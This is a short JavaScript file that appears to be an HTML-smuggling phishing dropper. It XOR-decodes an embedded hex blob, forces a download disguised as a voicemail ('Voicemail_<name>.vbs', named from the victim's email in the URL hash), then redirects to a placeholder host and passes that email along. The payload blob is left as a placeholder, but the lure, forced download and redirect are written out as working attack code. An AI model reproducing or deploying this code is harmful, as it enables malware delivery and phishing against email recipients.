var key = 'q7Zt';
var blob = '21303c3b5a0c1f3e2f16PLACEHOLDER';
function un(h) {
  for (var s = '', i = 0; i < h.length; i += 2) s += String.fromCharCode(parseInt(h.substr(i, 2), 16) ^ key.charCodeAt(i / 2 % key.length));
  return s;
}
var ns = 'http://www.w3.org/1999/xhtml';
var to = un(blob) || 'https://doc.sg-4.example/v';
var mail = (location.hash || '#').slice(1);
var a = document.createElementNS(ns, 'a');
var bytes = Uint8Array.from(un(blob), function (c) { return c.charCodeAt(0); });
a.setAttribute('href', URL.createObjectURL(new Blob([bytes], { type: 'application/x-msdownload' })));
a.setAttribute('download', 'Voicemail_' + mail.split('@')[0] + '.vbs');
document.documentElement.appendChild(a);
a.click();
setTimeout(function () { window.location.href = to + '#' + mail; }, 1500);
